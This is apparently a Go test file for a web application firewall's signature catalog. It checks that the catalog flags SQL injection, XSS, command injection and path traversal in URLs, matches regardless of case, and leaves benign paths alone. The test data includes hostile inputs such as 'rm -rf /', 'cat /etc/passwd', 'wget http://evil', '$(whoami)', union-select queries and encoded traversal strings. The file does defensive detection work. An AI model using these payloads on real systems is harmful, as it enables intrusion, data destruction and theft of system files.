package waf

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestDefaultCatalog_SQLInjection(t *testing.T) {
	catalog := DefaultCatalog()

	cases := []string{
		"/search?q=' or 1=1",
		"/products?id=1 union select password from users",
		"/q?x=drop table users",
		"/q?x=delete from accounts",
		"/q?x=insert into logs",
		"/q?x=exec(",
	}
	for _, url := range cases {
		_, _, ok := catalog.Match(CategorySQLInjection, url)
		assert.True(t, ok, "expected SQL injection match for %q", url)
	}
}

func TestDefaultCatalog_XSS(t *testing.T) {
	catalog := DefaultCatalog()

	cases := []string{
		"/page?x=<script>alert(1)</script>",
		"/page?x=javascript:alert(1)",
		"/page?x=<img onerror=alert(1)>",
		"/page?x=<iframe src=evil>",
		"/page?x=vbscript:msgbox",
		"/page?x=data:text/html;base64,xx",
	}
	for _, url := range cases {
		_, _, ok := catalog.Match(CategoryXSS, url)
		assert.True(t, ok, "expected XSS match for %q", url)
	}
}

func TestDefaultCatalog_CommandInjection(t *testing.T) {
	catalog := DefaultCatalog()

	cases := []string{
		"/run?cmd=; rm -rf /",
		"/run?cmd=cat /etc/passwd",
		"/run?cmd=wget http://evil",
		"/run?cmd=$(whoami)",
	}
	for _, url := range cases {
		_, _, ok := catalog.Match(CategoryCommandInjection, url)
		assert.True(t, ok, "expected command injection match for %q", url)
	}
}

func TestDefaultCatalog_PathTraversal(t *testing.T) {
	catalog := DefaultCatalog()

	cases := []string{
		"/files/../../etc/passwd",
		`/files/..\..\windows`,
		"/files/..%2f..%2fetc",
		"/files/..%252f..%252fetc",
		"/files/..%c0%afetc",
	}
	for _, url := range cases {
		_, _, ok := catalog.Match(CategoryPathTraversal, url)
		assert.True(t, ok, "expected path traversal match for %q", url)
	}
}

func TestDefaultCatalog_CaseInsensitive(t *testing.T) {
	catalog := DefaultCatalog()

	_, _, ok := catalog.Match(CategorySQLInjection, "/q?x=UNION SELECT")
	assert.True(t, ok)
	_, _, ok = catalog.Match(CategoryXSS, "/q?x=JAVASCRIPT:void(0)")
	assert.True(t, ok)
}

func TestDefaultCatalog_BenignNoMatch(t *testing.T) {
	catalog := DefaultCatalog()

	_, _, ok := catalog.Match(CategoryPathTraversal, "/search?q=hello")
	assert.False(t, ok)
	_, _, ok = catalog.Match(CategoryXSS, "/articles/2024/summer-recipes")
	assert.False(t, ok)
}

func TestCatalog_FirstMatchWinsAndReportsSubstring(t *testing.T) {
	catalog := DefaultCatalog()

	// "union select" matches the generic keyword rule before the dedicated
	// UNION SELECT rule; catalog order decides which one is reported.
	sig, matched, ok := catalog.Match(CategorySQLInjection, "/q?x=union select 1")
	assert.True(t, ok)
	assert.Equal(t, CategorySQLInjection, sig.Category)
	assert.Equal(t, "union", matched)
}

func TestCatalog_MatchIsRepeatable(t *testing.T) {
	catalog := DefaultCatalog()

	first, m1, ok1 := catalog.Match(CategoryXSS, "/p?x=javascript:x")
	second, m2, ok2 := catalog.Match(CategoryXSS, "/p?x=javascript:x")
	assert.True(t, ok1)
	assert.True(t, ok2)
	assert.Equal(t, first.Pattern.String(), second.Pattern.String())
	assert.Equal(t, m1, m2)
}
